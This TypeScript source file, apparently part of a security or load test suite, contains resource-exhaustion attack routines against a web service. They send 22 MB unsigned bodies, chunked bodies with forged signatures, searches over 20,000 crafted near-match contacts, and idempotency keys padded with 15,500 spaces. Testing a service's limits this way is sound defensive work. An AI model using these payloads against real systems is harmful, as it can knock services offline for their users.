/** Attacks by requests that cost the server memory or CPU time. */
import { repeat, send, type Target, writeHeaders } from "./Target.ts"

const large_body = new Uint8Array(22_000_000)
/** The longest body that the service reads before it checks the signature (contract §1.1). */
const callback_bytes_max = 4 * 1024 * 1024

/** Posts large bodies without a signature, with their length. */
export const postUnsigned = (target: Target): void =>
  repeat(20, () =>
    send(target, {
      method: "POST",
      path: "/ingress/graph",
      headers: { "content-length": large_body.length }
    }, large_body))

/** Posts bodies with an invalid signature, without their length: half of them above the limit, the others just within it. */
export const postInvalidSignatures = (target: Target): void =>
  repeat(20, (client) =>
    send(target, {
      method: "POST",
      path: "/ingress/graph",
      headers: { "transfer-encoding": "chunked", "x-hub-signature-256": `sha256=${"0".repeat(64)}` }
    }, client % 2 === 0 ? large_body : large_body.subarray(0, callback_bytes_max)))

/** Creates 20,000 contacts that nearly match the query of the expensive searches at each position of their names. */
const createNearMatches = async (target: Target): Promise<void> => {
  let remaining = 20_000
  const contact = JSON.stringify({ first_name: `${"a".repeat(99)}b${"a".repeat(100)}` })
  await Promise.all(Array.from({ length: 32 }, async () => {
    while (remaining-- > 0) {
      const headers = writeHeaders(target, `contact-${remaining}-of-20000`)
      await send(target, { method: "POST", path: "/v1/contacts", headers }, contact)
    }
  }))
}

/** Searches for a text that takes long to compare with each contact. */
export const searchExpensively = async (target: Target): Promise<void> => {
  await createNearMatches(target)
  const path = `/v1/contacts?query=${"a".repeat(150)}b${"a".repeat(49)}`
  repeat(8, () => send(target, { path, headers: { authorization: `Bearer ${target.key}` } }))
}

/** Sends invalid idempotency keys that take long to check. */
export const sendWorstKeys = (target: Target): void =>
  repeat(20, () =>
    send(
      target,
      { method: "POST", path: "/v1/tags", headers: writeHeaders(target, `a${" ".repeat(15_500)}a`) },
      "{\"name\":\"a\",\"color\":\"red\"}"
    ))
